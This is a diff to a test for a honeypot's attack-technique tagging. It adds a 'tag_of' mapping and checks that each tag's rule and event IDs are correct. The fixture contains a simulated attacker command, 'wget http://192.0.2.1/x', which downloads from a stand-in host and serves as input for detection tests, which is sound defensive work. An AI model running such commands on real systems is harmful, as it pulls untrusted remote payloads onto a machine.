@@ -14,6 +14,7 @@ from msgspec.structs import replace
 from decnet_core.events.catalogue import CommandRun, LoginAttempt, Payload
 from decnet_core.events.envelope import Event
 from decnet_models.events.queries import StoredEvent
+from decnet_models.ttp.queries import tag_of
 from decnet_workers.ttp import matching
 from decnet_workers.ttp.library import SHIPPED, load
 from decnet_workers.ttp.matching import RulesOfKind
@@ -77,6 +78,7 @@ def test_the_id_of_a_tag_is_that_of_its_name(stored: Stored) -> None:
     one = stored(1, CommandRun("ssh", "wget http://192.0.2.1/x"))
     for bound in remembering(CommandRun).matching(one.event):
         about = bound.rule.about
-        for tag in tags_of(one, "192.0.2.1", about):
+        for tag in map(tag_of, tags_of(one, "192.0.2.1", about)):
             assert tag.id == uuid5(NAMESPACE, f"{about.id}|{one.event.id}|{tag.technique}")
             assert (tag.id.version, str(tag.id.variant)) == (5, "specified in RFC 4122")
+            assert (tag.rule_id, tag.event_id) == (about.id, one.event.id)
